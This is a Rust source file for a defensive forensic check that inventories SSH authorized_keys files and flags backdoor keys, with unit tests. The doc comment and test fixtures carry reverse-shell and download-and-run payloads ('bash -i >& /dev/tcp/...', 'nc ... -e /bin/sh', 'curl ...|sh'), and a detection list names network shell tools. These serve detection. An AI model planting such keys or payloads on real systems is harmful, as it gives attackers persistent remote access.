//! `ssh.authorized_keys` — every key that can log in, as sshd would find it.
//!
//! **What it looks at:** for every account in `/etc/passwd`, each file named by sshd's effective
//! `AuthorizedKeysFile` (global value and `Match` blocks; default `.ssh/authorized_keys
//! .ssh/authorized_keys2`; `%h`, `%u`, `%U`, `%%` expanded, relative paths from the home), parsed
//! with `huoyan_artifacts::authorized_keys`. Each file is listed with its keys' fingerprints
//! (info; low for root). Separately reported: keys with `command=` (high, critical when the
//! command looks like a shell or download), `environment=` (high), keys of system accounts,
//! keys in `authorized_keys2`, files modified since `--since` (default 30 days), lines that are
//! not keys, files others can write, and one key authorizing several accounts.
//!
//! **Why an attacker leaves this trace:** appending a public key is the most common persistence
//! on Linux servers (T1098.004): it survives password changes and needs no process. `command=`
//! and `environment=` hide a payload that runs on each login; `authorized_keys2` and keys for
//! service accounts are places defenders rarely read.
//!
//! **Example:** `/root/.ssh/authorized_keys:3 command="bash -i >& /dev/tcp/203.0.113.5/443 0>&1"
//! ssh-ed25519 SHA256:… x@kali`.
//!
//! **Calibration:** role `foothold` (a way back in: listed among the entries still open when
//! high); critical or high only for evidence that an attacker acted, medium for what needs a
//! look, low and info for context (docs/PRECISION.md).
//!
//! **ATT&CK:** T1098.004 (Account Manipulation: SSH Authorized Keys).

use std::collections::{BTreeMap, BTreeSet, HashSet};

use huoyan_artifacts::authorized_keys::{self, KeyLine};
use huoyan_artifacts::sshd_config;
use huoyan_core::{CheckInfo, FileKind, Meta, Outcome, Severity};
use serde_json::json;

use crate::registry::Check;
use crate::Context;

/// See the module documentation.
pub struct AuthorizedKeys;

static INFO: CheckInfo = CheckInfo {
    id: "ssh.authorized_keys",
    title: "SSH authorized key",
    title_zh: "SSH 授权公钥",
    mitre: &["T1098.004"],
    remediation: "Confirm each key with its owner (comment and fingerprint); keep a copy of the \
                  file as evidence, delete keys nobody recognises, and match the fingerprint \
                  against `Accepted publickey` lines in the auth log to find their logins.",
    remediation_zh:
        "逐一向使用者确认每个公钥（注释与指纹）；先保留文件副本作为证据，删除无人认领的公钥，\
                     并用指纹匹配认证日志中的 `Accepted publickey` 记录以找出其登录。",
};

/// Largest key file read (a real one is a few KB).
const CAP: u64 = 4 * 1024 * 1024;

/// Keys listed per file in the inventory finding.
const MAX_LISTED: usize = 200;
/// Findings per file for individual keys and bad lines.
const MAX_PER_FILE: usize = 100;

const DEFAULT_FILES: &[&str] = &[".ssh/authorized_keys", ".ssh/authorized_keys2"];

fn looks_malicious(command: &str) -> bool {
    let c = command.to_ascii_lowercase();
    [
        "/dev/tcp",
        "/dev/udp",
        "nc ",
        "ncat",
        "netcat",
        "socat",
        "bash -i",
        "sh -i",
        "mkfifo",
        "curl",
        "wget",
        "base64",
        "python",
        "perl -e",
        "telnet",
        "/tmp/",
        "/dev/shm/",
        "|sh",
        "| sh",
        "|bash",
        "| bash",
    ]
    .iter()
    .any(|p| c.contains(p))
}

/// cloud-init's `disable_root_opts` command, written in front of root's keys on cloud images:
/// `echo 'Please login as the user "ubuntu" rather than the user "root".';echo;sleep 10;exit 142`.
fn is_cloud_init_refusal(command: &str) -> bool {
    let c = command.trim();
    c.starts_with("echo 'Please login as the user ")
        && c.ends_with("exit 142")
        && !c.contains(['|', '`', '$', '>', '<', '&'])
}

fn key_json(k: &KeyLine) -> serde_json::Value {
    json!({
        "line": k.line,
        "type": k.key_type,
        "fingerprint": k.fingerprint,
        "comment": k.comment,
        "options": k.options.iter().map(|(n, v)| match v {
            Some(v) => format!("{n}={v}"),
            None => n.clone(),
        }).collect::<Vec<_>>(),
    })
}

/// The file patterns sshd would use: global value (or default) plus Match-block values.
fn patterns(ctx: &Context) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    match sshd_config::read(&ctx.root) {
        Ok((cfg, _)) => {
            match cfg.global("authorizedkeysfile") {
                Some(d) => out.extend(d.args.iter().cloned()),
                None => out.extend(DEFAULT_FILES.iter().map(|s| s.to_string())),
            }
            for d in cfg.in_match("authorizedkeysfile") {
                out.extend(d.args.iter().cloned());
            }
        }
        Err(_) => out.extend(DEFAULT_FILES.iter().map(|s| s.to_string())),
    }
    out.retain(|p| !p.eq_ignore_ascii_case("none"));
    out.dedup();
    out
}

struct FileCtx<'a> {
    path: &'a str,
    user: &'a str,
    meta: &'a Meta,
}

impl FileCtx<'_> {
    fn finding(&self, severity: Severity, what: String) -> huoyan_core::Finding {
        INFO.finding(severity, format!("{}: {what}", self.path))
            .path(self.path)
            .user(self.user)
            .at(self.meta.mtime)
    }
}

impl Check for AuthorizedKeys {
    fn info(&self) -> &'static CheckInfo {
        &INFO
    }

    fn run(&self, ctx: &Context, out: &mut Outcome) {
        let since = ctx.recent_since();
        let uid_min = huoyan_artifacts::login_defs::read(&ctx.root).uid_min;
        let patterns = patterns(ctx);
        let mut seen = HashSet::new();
        // fingerprint -> (users, files) it authorizes, to spot one key sprayed over accounts.
        let mut by_key: BTreeMap<String, (BTreeSet<String>, BTreeSet<String>)> = BTreeMap::new();
        for p in &ctx.users().passwd {
            if !p.home.starts_with('/') || p.name.starts_with(['+', '-']) {
                continue;
            }
            let uid = p.uid.unwrap_or(u32::MAX);
            for pattern in &patterns {
                let Some(path) = authorized_keys::expand_path(pattern, &p.home, &p.name, uid)
                else {
                    continue;
                };
                if !seen.insert((path.clone(), p.name.clone())) {
                    continue;
                }
                let meta = match ctx.root.stat(&path) {
                    Ok(m) => m,
                    Err(e) => {
                        out.gap_from(INFO.id, &e, true);
                        continue;
                    }
                };
                let data = match ctx.root.read_capped(&path, CAP) {
                    Ok(d) => d,
                    Err(e) => {
                        out.gap_from(INFO.id, &e, true);
                        continue;
                    }
                };
                let fc = FileCtx {
                    path: &path,
                    user: &p.name,
                    meta: &meta,
                };
                let system = uid != 0 && (uid < uid_min || uid == 65534);
                for fp in examine_file(ctx, &fc, &data.data, uid, system, since, out) {
                    let entry = by_key.entry(fp).or_default();
                    entry.0.insert(p.name.clone());
                    entry.1.insert(path.clone());
                }
            }
        }
        for (fp, (users, files)) in by_key {
            if users.len() < 2 {
                continue;
            }
            let severity = if users.len() > 3 {
                Severity::High
            } else {
                Severity::Medium
            };
            let list: Vec<&str> = users.iter().map(String::as_str).collect();
            let mut f = INFO
                .finding(
                    severity,
                    format!(
                        "key {fp} may log in as {} accounts: {}",
                        users.len(),
                        list.join(", ")
                    ),
                )
                .evidence(json!({"fingerprint": fp, "users": list, "files": files}));
            for u in &users {
                f = f.user(u.clone());
            }
            for file in &files {
                f = f.path(file.clone());
            }
            out.add(f);
        }
    }
}

fn examine_file(
    ctx: &Context,
    fc: &FileCtx,
    data: &[u8],
    uid: u32,
    system: bool,
    since: huoyan_core::Timestamp,
    out: &mut Outcome,
) -> Vec<String> {
    let parsed = authorized_keys::parse(data);
    let until = ctx.window.until.unwrap_or(ctx.now);
    let recent = fc.meta.mtime.is_some_and(|t| t >= since && t <= until);
    let link = ctx
        .root
        .lstat(fc.path)
        .is_ok_and(|m| m.kind == FileKind::Symlink);
    if !parsed.keys.is_empty() {
        // The inventory lists at most MAX_LISTED keys (a hostile file can hold millions).
        let keys: Vec<_> = parsed.keys.iter().take(MAX_LISTED).map(key_json).collect();
        let inventory = if uid == 0 {
            Severity::Low
        } else {
            Severity::Info
        };
        out.add(
            fc.finding(
                inventory,
                format!("{} key(s) may log in as {}", parsed.keys.len(), fc.user),
            )
            .evidence(json!({
                "file": fc.path,
                "user": fc.user,
                "keys": keys,
                "mtime": fc.meta.mtime.map(huoyan_core::time::format_utc),
                "ctime": fc.meta.ctime.map(huoyan_core::time::format_utc),
                "symlink": link,
            }))
            // The inventory of who can log in is posture, not an act.
            .hardening(),
        );
    }
    // Every key is judged (a backdoor key can sit at line 10,000); past MAX_PER_FILE findings
    // the rest are folded into one.
    let mut reported = 0usize;
    let mut folded: Vec<usize> = Vec::new();
    let mut folded_worst = Severity::Info;
    for k in &parsed.keys {
        let mut reasons: Vec<(Severity, String)> = Vec::new();
        if let Some(cmd) = k.option("command") {
            if is_cloud_init_refusal(cmd) {
                // cloud-init's disable_root: the key only prints "login as ubuntu" and exits.
            } else {
                let severity = if looks_malicious(cmd) {
                    Severity::Critical
                } else {
                    Severity::High
                };
                reasons.push((severity, format!("runs command=\"{cmd}\" on login")));
            }
        }
        if let Some(env) = k.option("environment") {
            let severity = if env.starts_with("LD_") || env.starts_with("BASH_ENV") {
                Severity::Critical
            } else {
                Severity::High
            };
            reasons.push((severity, format!("sets environment=\"{env}\"")));
        }
        if system {
            reasons.push((
                Severity::High,
                format!("key for system account {}", fc.user),
            ));
        }
        if fc.path.ends_with("authorized_keys2") {
            reasons.push((
                Severity::Medium,
                "key in the rarely used authorized_keys2".into(),
            ));
        }
        if recent {
            let severity = if uid == 0 {
                Severity::High
            } else {
                Severity::Medium
            };
            reasons.push((
                severity,
                "file modified within the window of interest".into(),
            ));
        }
        if reasons.is_empty() {
            continue;
        }
        let severity = reasons.iter().map(|r| r.0).max().unwrap_or(Severity::Info);
        if reported >= MAX_PER_FILE {
            folded.push(k.line);
            folded_worst = folded_worst.max(severity);
            continue;
        }
        reported += 1;
        let what: Vec<&str> = reasons.iter().map(|r| r.1.as_str()).collect();
        let mut f = fc
            .finding(
                severity,
                format!(
                    "line {} key {} ({}): {}",
                    k.line,
                    k.fingerprint.as_deref().unwrap_or("?"),
                    k.comment,
                    what.join("; ")
                ),
            )
            .evidence(json!({"file": fc.path, "user": fc.user, "key": key_json(k)}));
        if let Some(from) = k.option("from") {
            // Only address patterns are IPs; host-name patterns stay in the evidence.
            for ip in from.split(',').map(|p| p.trim().trim_start_matches('!')) {
                if !ip.is_empty()
                    && ip
                        .chars()
                        .all(|c| c.is_ascii_hexdigit() || matches!(c, '.' | ':' | '/'))
                {
                    f = f.ip(ip.to_string());
                }
            }
        }
        out.add(f);
    }
    if !folded.is_empty() {
        out.add(
            fc.finding(
                folded_worst,
                format!(
                    "{} more suspicious keys (lines in the evidence)",
                    folded.len()
                ),
            )
            .evidence(json!({"file": fc.path, "lines": folded})),
        );
    }
    for bad in parsed.bad.iter().take(MAX_PER_FILE) {
        out.add(
            fc.finding(Severity::Low, format!("line {} is not a key", bad.line))
                .evidence(json!({"file": fc.path, "line": bad.line, "text": bad.text})),
        );
    }
    if fc.meta.perm() & 0o022 != 0 || (fc.meta.uid != uid && fc.meta.uid != 0) {
        out.add(
            fc.finding(
                Severity::Medium,
                format!(
                    "writable by others or owned by another user (mode {:04o}, uid {})",
                    fc.meta.perm(),
                    fc.meta.uid
                ),
            )
            .evidence(json!({"file": fc.path, "mode": format!("{:04o}", fc.meta.perm()), "uid": fc.meta.uid}))
            // A weak mode is a weakness; the keys in the file are judged above.
            .hardening(),
        );
    }
    parsed
        .keys
        .iter()
        .filter_map(|k| k.fingerprint.clone())
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::accounts::testing::{root_with, run_default, DEBIAN_PASSWD};

    const KEY: &str = "AAAAC3NzaC1lZDI1NTE5AAAAIJ4ns9x4F5fQmZ0r0F0mQ1r0o3o7Yw9y4n0ZKqk3iA0N";

    fn set_old(base: &std::path::Path, path: &str) {
        let f = std::fs::File::options()
            .write(true)
            .open(base.join(path.trim_start_matches('/')))
            .expect("open");
        f.set_modified(
            std::time::SystemTime::UNIX_EPOCH + std::time::Duration::from_secs(1_600_000_000),
        )
        .expect("mtime");
    }

    #[test]
    fn flags_command_key_system_account_and_custom_file() {
        let passwd = DEBIAN_PASSWD.to_string();
        let dir = root_with(&[
            ("/etc/passwd", &passwd),
            ("/etc/ssh/sshd_config", "AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%u\n"),
            ("/root/.ssh/authorized_keys", &format!("command=\"bash -i >& /dev/tcp/203.0.113.5/443 0>&1\",from=\"203.0.113.5\" ssh-ed25519 {KEY} x@kali\n")),
            ("/etc/ssh/keys/www-data", &format!("ssh-ed25519 {KEY} web\n")),
            ("/home/alice/.ssh/authorized_keys", &format!("ssh-ed25519 {KEY} alice@laptop\n")),
        ]);
        set_old(dir.path(), "/root/.ssh/authorized_keys");
        set_old(dir.path(), "/etc/ssh/keys/www-data");
        set_old(dir.path(), "/home/alice/.ssh/authorized_keys");
        let out = run_default(&AuthorizedKeys, dir.path());
        let root = out
            .findings
            .iter()
            .find(|f| f.severity == Severity::Critical)
            .expect("crit");
        assert_eq!(root.users, vec!["root"]);
        assert_eq!(root.ips, vec!["203.0.113.5"]);
        assert!(out
            .findings
            .iter()
            .any(|f| f.users == vec!["www-data"] && f.severity == Severity::High));
        let alice: Vec<_> = out
            .findings
            .iter()
            .filter(|f| f.users == vec!["alice"])
            .collect();
        assert_eq!(alice.len(), 1);
        assert_eq!(alice[0].severity, Severity::Info);
        // The same key in all three files is one sprayed key.
        let sprayed = out
            .findings
            .iter()
            .find(|f| f.users.len() == 3)
            .expect("sprayed key");
        assert_eq!(sprayed.severity, Severity::Medium);
        assert_eq!(sprayed.paths.len(), 3);
    }

    #[test]
    fn a_backdoor_key_deep_in_a_long_file_is_still_reported() {
        let mut keys = String::new();
        for i in 0..150 {
            keys.push_str(&format!("command=\"/bin/true\" ssh-ed25519 {KEY} k{i}\n"));
        }
        keys.push_str(&format!(
            "command=\"nc 203.0.113.9 4444 -e /bin/sh\" ssh-ed25519 {KEY} last\n"
        ));
        let dir = root_with(&[
            ("/etc/passwd", DEBIAN_PASSWD),
            ("/root/.ssh/authorized_keys", &keys),
        ]);
        set_old(dir.path(), "/root/.ssh/authorized_keys");
        let out = run_default(&AuthorizedKeys, dir.path());
        // inventory + MAX_PER_FILE individual findings + one folded finding
        assert_eq!(out.findings.len(), MAX_PER_FILE + 2);
        let folded = out.findings.last().expect("folded");
        assert_eq!(folded.severity, Severity::Critical);
        assert_eq!(
            folded.evidence["lines"].as_array().map(|a| a.len()),
            Some(51)
        );
    }

    #[test]
    fn cloud_init_root_refusal_is_not_a_backdoor() {
        let line = format!(
            "no-port-forwarding,no-agent-forwarding,no-X11-forwarding,command=\"echo 'Please login as the user \\\"ubuntu\\\" rather than the user \\\"root\\\".';echo;sleep 10;exit 142\" ssh-ed25519 {KEY} aws\n"
        );
        let dir = root_with(&[
            ("/etc/passwd", DEBIAN_PASSWD),
            ("/root/.ssh/authorized_keys", &line),
        ]);
        set_old(dir.path(), "/root/.ssh/authorized_keys");
        let out = run_default(&AuthorizedKeys, dir.path());
        assert!(
            out.findings.iter().all(|f| f.severity <= Severity::Low),
            "{:#?}",
            out.findings
        );
        // and a real payload with the same prefix is not excused
        assert!(!is_cloud_init_refusal(
            "echo 'Please login as the user x'; curl http://203.0.113.1|sh; exit 142"
        ));
    }

    #[test]
    fn recent_key_is_reported() {
        let dir = root_with(&[
            ("/etc/passwd", DEBIAN_PASSWD),
            (
                "/home/alice/.ssh/authorized_keys",
                &format!("ssh-ed25519 {KEY} new\n"),
            ),
        ]);
        let out = run_default(&AuthorizedKeys, dir.path());
        assert!(out
            .findings
            .iter()
            .any(|f| f.severity == Severity::Medium && f.is_evidence()));
        // The inventory line is posture.
        assert!(out
            .findings
            .iter()
            .any(|f| f.summary.contains("may log in as alice") && !f.is_evidence()));
    }
}
